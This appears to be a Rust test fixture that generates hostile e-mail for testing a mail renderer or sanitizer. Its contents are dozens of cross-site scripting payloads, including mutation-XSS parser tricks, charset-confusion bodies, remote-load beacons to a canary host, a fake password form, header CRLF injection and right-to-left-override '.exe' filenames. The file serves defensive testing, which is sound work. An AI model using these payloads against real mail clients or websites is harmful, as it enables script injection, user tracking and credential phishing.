//! Mail that would do harm to whoever looks at it: each tries to run, to load, to lead away, or to be taken for more than mail.

/// What a script of theirs does: marks the window, and asks the canary.
const HARM: &str = "window.harm=1;try{top.harm=1}catch(e){};new Image().src='http://CANARY/script'";

/// HTML parts. `HARM` stands for a script, `CANARY` for the host that nobody should ask for anything.
const PAGES: [&str; 44] = [
    "<script>HARM</script>",
    "<script src=http://CANARY/a.js></script>",
    "<img src=x onerror=\"HARM\">",
    "<img src=http://CANARY/pixel.gif width=1 height=1><img srcset='http://CANARY/set 1x'>",
    "<svg onload=\"HARM\"></svg>",
    "<svg><script>HARM</script><image href=http://CANARY/svg /></svg>",
    "<svg><animate onbegin=\"HARM\" attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=\"HARM\"/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>HARM</script>'></iframe></foreignObject></svg>",
    "<iframe src=\"javascript:HARM\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;HARM&lt;/script&gt;\"></iframe>",
    "<iframe src=http://CANARY/frame></iframe><iframe src=/decisions></iframe>",
    "<frameset onload=\"HARM\"><frame src=http://CANARY/frameset></frameset>",
    "<object data=http://CANARY/object></object><object type=text/html data='data:text/html,<script>HARM</script>'>",
    "<embed src=http://CANARY/embed><applet code=x archive=http://CANARY/applet></applet>",
    "<meta http-equiv=refresh content=\"0;url=http://CANARY/refresh\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>HARM</script>\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta http-equiv=Set-Cookie content='a=b'>",
    "<base href=http://CANARY/><img src=relative><link rel=stylesheet href=x.css>",
    "<form action=http://CANARY/form method=post><input name=password type=password autofocus><button>Sign in</button></form>",
    "<form id=f action=http://CANARY/f></form><input form=f autofocus onfocus=\"HARM\"><button form=f formaction=javascript:HARM>x</button>",
    "<style>@import url(http://CANARY/import.css);body{background:url(http://CANARY/css)}</style>",
    "<p style=\"background:url(http://CANARY/style);position:fixed;inset:0\">cover</p>",
    "<style>@font-face{font-family:a;src:url(http://CANARY/font)}p{font-family:a}</style><p>a</p>",
    "<link rel=stylesheet href=http://CANARY/l.css><link rel=prefetch href=http://CANARY/pre><link rel=preload as=image href=http://CANARY/p><link rel=icon href=http://CANARY/i>",
    "<video poster=http://CANARY/poster src=http://CANARY/video autoplay></video><audio autoplay src=http://CANARY/audio onerror=\"HARM\"></audio>",
    "<picture><source srcset=http://CANARY/source><img></picture><input type=image src=http://CANARY/button>",
    "<body background=http://CANARY/body onload=\"HARM\" onpageshow=\"HARM\"><table background=http://CANARY/table><tr><td>x</table>",
    "<math><maction actiontype=statusline xlink:href=javascript:HARM>x</maction></math><math href=http://CANARY/m>y</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=HARM&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror='HARM'>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror='HARM'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror='HARM'>",
    "<template shadowrootmode=open><script>HARM</script><img src=http://CANARY/shadow></template>",
    "<!--><script>HARM</script>--><!--!><img src=x onerror=\"HARM\">-->",
    "<svg><![CDATA[<]]>script>HARM</script></svg><math><![CDATA[]]><img src=x onerror=\"HARM\"></math>",
    "<details open ontoggle=\"HARM\"><summary>x</summary></details><marquee onstart=\"HARM\">x</marquee><div popover onbeforetoggle=\"HARM\">",
    "<a href=\"javascript:HARM\" autofocus onfocus=\"HARM\">click</a><a href='http://CANARY/link' ping=http://CANARY/ping target=_top>x</a>",
    "<a href='data:text/html,<script>HARM</script>'>x</a><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HARM'/>\">",
    "&lt;script&gt;HARM&lt;/script&gt;&#x3c;script&#x3e;HARM&#x3c;/script&#x3e;<title></title><script>HARM</script>",
    "<xmp></xmp><script>HARM</script><textarea></textarea><script>HARM</script><plaintext><script>HARM</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://CANARY/spec\"]}]}</script><script type=importmap>{}</script>",
    "<scr\u{0}ipt>HARM</scr\u{0}ipt><img/src=x\u{0}onerror=\"HARM\"><\u{0}script>HARM</script>",
    "\u{ff1c}script\u{ff1e}HARM\u{ff1c}/script\u{ff1e}<p>pay\u{202e}gpj.exe\u{2066}</p><img src\u{a0}=x onerror\u{3000}=\"HARM\" ONERROR=\"HARM\">",
];

/// Parts whose bytes are read in another way than they are written, by their Content-Type.
const BYTES: [(&str, &[u8]); 6] = [
    ("text/html; charset=utf-7", b"+ADw-script+AD4-window.harm=1+ADw-/script+AD4-"),
    ("text/html; charset=iso-2022-jp", b"<p title=\"\x1b$B\">\x1b(B<img alt=\"\" src=x onerror=window.harm=1>\">"),
    ("text/html; charset=utf-16", b"\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>\0w\0i\0n\0d\0o\0w\0.\0h\0a\0r\0m\0=\x001\0<\0/\0s\0c\0r\0i\0p\0t\0>"),
    ("text/html; charset=utf-8", b"\xc0\xbcscript\xc0\xbewindow.harm=1\xc0\xbc/script\xc0\xbe<\xe0\x80\xbcscript>window.harm=1</script>"),
    ("text/html; charset=x-\"><script>window.harm=1</script>", b"<script>window.harm=1</script>"),
    ("application/xhtml+xml", b"<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://CANARY/x.css\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>window.harm=1</script></html>"),
];

/// Whole messages, for what stands in their fields and their structure.
const WHOLE: [&str; 8] = [
    "From: \"<script>HARM</script>\" <a@evil.example>\r\nSubject: =?utf-8?q?x=0D=0ASet-Cookie:_kith_session=3Dstolen=0D=0A=0D=0A<script>HARM</script>?=\r\n\r\nx\r\n",
    "From: a@evil.example\r\nSubject: </title></h1><script>HARM</script>\r\nX-\"><img src=x onerror=HARM>: y\r\n\r\n</pre><script>HARM</script> http://CANARY/text\r\n",
    "From: a@evil.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; name=\"../../<img src=x onerror=HARM>.html\"\r\nContent-Disposition: attachment; filename=\"gpj\u{202e}.exe\r\n Content-Type: text/html\"\r\n\r\n<script>HARM</script>\r\n--b--\r\n",
    "<html><script>HARM</script><img src=http://CANARY/headless></html>\r\n\r\n<script>HARM</script>\r\n",
    "From: a@evil.example\r\nContent-Type: text/plain\r\n\r\n<!DOCTYPE html><html><body onload=\"HARM\"><script>HARM</script>\r\n",
    "From: a@evil.example\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>a<!--\r\n--b\r\nContent-Type: text/html\r\n\r\n--><script>HARM</script>\r\n",
    "From: a@evil.example\r\nContent-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\nSubject: <script>HARM</script>\r\n\r\n<script>HARM</script><img src=http://CANARY/inner>\r\n",
    "From: a@evil.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:p><iframe src=cid:p></iframe>\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <p>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"HARM\"><image href=\"http://CANARY/cid\"/></svg>\r\n--b--\r\n",
];

/// One HTML part's source, as it stands in its mail.
pub fn pages(canary: &str) -> Vec<String> {
    PAGES.iter().map(|page| page.replace("HARM", HARM).replace("CANARY", canary)).collect()
}

/// All mails.
pub fn all(canary: &str) -> Vec<Vec<u8>> {
    let head = |kind: &str| format!("From: Eve <eve@evil.example>\r\nSubject: Look\r\nContent-Type: {kind}\r\n\r\n");
    let html =
        pages(canary).into_iter().map(|page| format!("{}{page}\r\n", head("text/html; charset=utf-8")).into_bytes());
    let bytes = BYTES.iter().map(|(kind, body)| {
        let host = |body: &[u8]| match std::str::from_utf8(body) {
            Ok(text) => text.replace("CANARY", canary).into_bytes(),
            Err(_) => body.to_vec(),
        };
        [head(kind).into_bytes(), host(body)].concat()
    });
    let whole = WHOLE.iter().map(|mail| mail.replace("HARM", HARM).replace("CANARY", canary).into_bytes());
    html.chain(bytes).chain(whole).collect()
}
